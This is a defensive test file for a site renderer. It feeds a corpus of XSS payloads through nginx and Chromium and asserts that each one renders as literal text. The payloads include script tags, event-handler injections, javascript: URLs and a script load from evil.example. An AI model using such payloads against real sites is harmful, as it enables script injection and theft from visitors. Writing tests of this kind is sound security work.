// Hostile customer text through the real path: record schema -> renderSiteContent -> real nginx with the rendered
// config -> real Chromium. Each payload must come out as the literal text the customer typed: no element, no
// script, no dialog, no request beyond the page itself.
import { strict as assert } from "node:assert";
import * as fs from "node:fs";
import { customerSchema } from "../../components/model/customer";
import { renderSiteContent } from "../../components/model/site/content";
import { type Browser, chromiumMissing, launchBrowser } from "../harness/realparts/browser";
import { requireRealPart } from "../harness/real-part";
import { NGINX_BIN, startNginx } from "../harness/realparts/nginx";

const RLO = "\u202e";
const RLM = "\u200f";
const LRI = "\u2066";

/** Each fits companyName (<=100 code points) unless noted; all are free of control characters, as records must be. */
export const XSS_PAYLOADS: ReadonlyArray<{ name: string; text: string }> = [
    { name: "script tag", text: "<script>alert(1)</script>" },
    { name: "script tag, upper case and spaced", text: "<SCRIPT >alert(document.domain)</SCRIPT >" },
    { name: "closing the paragraph first", text: '</p><script src="https://evil.example/x.js"></script><p>' },
    { name: "img onerror", text: '<img src=x onerror="alert(1)">' },
    { name: "svg onload", text: "<svg/onload=alert(1)>" },
    { name: "double-quote attribute break-out", text: '" onmouseover="alert(1)" x="' },
    { name: "single-quote attribute break-out", text: "' autofocus onfocus='alert(1)" },
    { name: "javascript: URL link", text: '<a href="javascript:alert(1)">click</a>' },
    { name: "javascript: URL, entity-obfuscated", text: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
    { name: "named entities that must stay literal", text: "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;" },
    { name: "numeric entities that must stay literal", text: "&#60;script&#62;alert(1)&#60;/script&#62;" },
    { name: "mixed encodings (URL, unicode escapes)", text: "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e \\x3cimg\\x3e" },
    { name: "full-width angle brackets", text: "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e" },
    { name: "style and meta refresh", text: '<style>*{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.example">' },
    { name: "iframe srcdoc", text: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
    { name: "template-injection look-alikes", text: "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>" },
    { name: "comment and CDATA break-out", text: "--><!--<![CDATA[<script>alert(1)</script>]]>" },
    { name: "right-to-left text with markup, no bidi controls", text: "gpj.exe <b>bold</b> שלום <i>x</i>" },
    { name: "Arabic with markup", text: "شركة <script>alert('ع')</script> المحدودة" },
    { name: "emoji and astral plane with markup", text: "🚀<img src=x onerror=alert(1)>🚀 𝒜𝒸𝓂ℯ" },
    { name: "very long: 100 code points of tags", text: "<b>".repeat(33) + "x" },
];

/** Motto gets a longer variant: the payload repeated to the 200-code-point limit. */
function longVariant(text: string, max: number): string {
    const cps = [...text];
    const out: string[] = [];
    while (out.length + cps.length <= max) out.push(...cps);
    return out.length ? out.join("").trim() : cps.slice(0, max).join("").trim();
}

function customerWith(companyName: string, motto: string) {
    return customerSchema.parse({ id: "xss-probe", companyName, motto, tier: "starter", purchaseId: "PO-XSS-0001" });
}

describe("XSS corpus: bidi controls never reach a page", function () {
    // They could reorder the page ("gpj.exe" shown as "exe.jpg"); the record schema refuses them (components/model/text.ts).
    for (const [name, text] of [["RLO", `${RLO}gpj.exe`], ["RLM", `x${RLM}y`], ["LRI", `${LRI}שלום`]] as const) {
        it(`refuses ${name} in companyName and motto, naming the field`, function () {
            const r = customerSchema.safeParse({ id: "xss-probe", companyName: text, motto: text, tier: "starter", purchaseId: "PO-XSS-0001" });
            assert.equal(r.success, false);
            assert.deepEqual([...new Set(r.error!.issues.map((i) => i.path.join(".")))].sort(), ["companyName", "motto"]);
        });
    }
});

describe("real parts: XSS corpus in company name and motto, in real nginx + Chromium", function () {
    this.timeout(300_000);
    let browser: Browser | undefined;

    before(async function () {
        requireRealPart(this, fs.existsSync(NGINX_BIN) ? undefined : `${NGINX_BIN} is missing; install Debian's nginx: apt-get install -y nginx`);
        requireRealPart(this, chromiumMissing());
        browser = await launchBrowser();
    });

    after(async function () {
        await browser?.close();
    });

    it("has at least 15 payloads, each a valid record (1-100 / 1-200 code points, no control characters)", function () {
        assert.ok(XSS_PAYLOADS.length >= 15, `only ${XSS_PAYLOADS.length} payloads`);
        for (const p of XSS_PAYLOADS) {
            const c = customerWith(p.text, longVariant(p.text, 200));
            assert.ok([...c.companyName].length <= 100 && [...c.motto].length <= 200, p.name);
        }
    });

    for (const payload of XSS_PAYLOADS) {
        it(`renders "${payload.name}" as literal text, runs nothing, requests nothing`, async function () {
            const customer = customerWith(payload.text, longVariant(payload.text, 200));
            const site = renderSiteContent(customer);
            const nginx = await startNginx({ nginxConf: site.nginxConf, files: { "index.html": site.indexHtml } });
            try {
                const url = `${nginx.baseUrl}/`;
                const visit = await browser!.visit(url, { selectors: [".company", ".motto", "h1"] });
                const where = `payload "${payload.name}"`;
                assert.equal(visit.status, 200, `${where}: page answered ${visit.status}`);
                assert.equal(visit.texts["h1"], "Welcome to SAS", `${where}: the heading was disturbed`);
                assert.equal(visit.texts[".company"], customer.companyName, `${where}: company name is not the literal text`);
                assert.equal(visit.texts[".motto"], customer.motto, `${where}: motto is not the literal text`);
                assert.deepEqual(visit.scriptableNodes, [], `${where}: markup from the payload became elements or attributes`);
                assert.deepEqual(visit.dialogs, [], `${where}: a dialog opened`);
                assert.deepEqual(visit.requests, [url], `${where}: the page requested something besides itself`);
                assert.deepEqual(visit.consoleErrors, [], `${where}: console errors`);
                assert.deepEqual(visit.cspViolations, [], `${where}: CSP violations (something tried to run or load)`);
            } finally {
                await nginx.stop();
            }
        });
    }
});
